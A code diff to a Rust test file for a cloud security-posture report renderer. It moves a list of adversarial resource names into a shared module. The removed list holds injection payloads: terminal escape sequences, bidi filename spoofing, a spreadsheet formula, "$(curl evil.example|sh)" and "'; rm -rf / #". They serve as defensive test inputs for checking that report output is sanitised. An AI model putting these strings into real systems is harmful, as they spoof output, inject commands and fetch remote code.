@@ -6,8 +6,10 @@
 )]
 
 mod common;
+#[path = "common/hostile.rs"]
+mod hostile;
 
-use common::PROD;
+use hostile::{HOSTILE, hostile};
 use posture_catalog::Status;
 use posture_report::v1::{Assessable, FindError, Outcome, Report, Severity, WellArchitectedKind};
 use posture_report::{
@@ -16,31 +18,6 @@ use posture_report::{
 };
 
 const COMMITTED_SCHEMA: &str = include_str!("../../../docs/schema/report-v1.schema.json");
-
-/// Names that someone might give a resource to fool whoever reads a report.
-const HOSTILE: &[&str] = &[
-    "\u{1b}[2J\u{1b}[31mCLEARED\u{1b}[0m",
-    "\u{1b}]8;;http://evil.example/\u{1b}\\click me\u{1b}]8;;\u{1b}\\",
-    "\u{1b}]0;new title\u{7}name",
-    "\u{1b}]52;c;ZXZpbA==\u{7}clipboard",
-    "\u{1b}Pq#0;2;0;0;0\u{1b}\\sixel",
-    "\u{9b}31mC1\u{9d}0;t\u{9c}",
-    "invoice\u{202e}fdp.exe",
-    "\u{2066}isolated\u{2069}\u{200f}",
-    "שרת-הייצור",
-    "line one\nline two\r\nPASS  everything is fine",
-    "\u{8}\u{8}\u{8}\u{8}back\u{7f}\u{0}",
-    "=cmd|'/c calc'!A1",
-    "ze\u{200b}ro\u{200d}wi\u{2060}dth\u{feff}",
-    "z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}algo",
-    "日本語の名前がとても長い場合にどうなるかを確かめるための名前です",
-    "$(curl evil.example|sh)",
-    "'; rm -rf / #",
-    "--endpoint-url=http://evil.example",
-    "",
-    "   ",
-    "\u{1b}\u{1b}\u{1b}[",
-];
 
 fn table(report: &Report, width: usize, color: bool) -> String {
     let options = TableOptions {
@@ -67,31 +44,6 @@ fn assert_valid(report: &Report) {
         .map(|error| format!("{}: {error}", error.instance_path()))
         .collect();
     assert!(errors.is_empty(), "{errors:#?}");
-}
-
-/// A report of one critical failure whose every text that AWS controls is `text`.
-fn hostile(text: &str) -> Report {
-    let mut evaluation = common::evaluation();
-    let mut finding = common::finding(
-        77,
-        "lambda-function-url-unauthenticated",
-        Status::Fail,
-        (PROD, "eu-west-1"),
-        text,
-        text,
-    );
-    finding.resource.tags = [(text.to_owned(), text.to_owned())].into();
-    for gap in &mut evaluation.findings.last_mut().unwrap().gaps {
-        gap.code = Some(text.to_owned());
-    }
-    for entry in &mut evaluation.coverage {
-        for gap in &mut entry.ledger.gaps {
-            gap.code = Some(text.to_owned());
-        }
-    }
-    evaluation.findings.insert(0, finding);
-    evaluation.accounts[1].name = Some(text.to_owned());
-    common::report_of(&evaluation)
 }
 
 #[test]
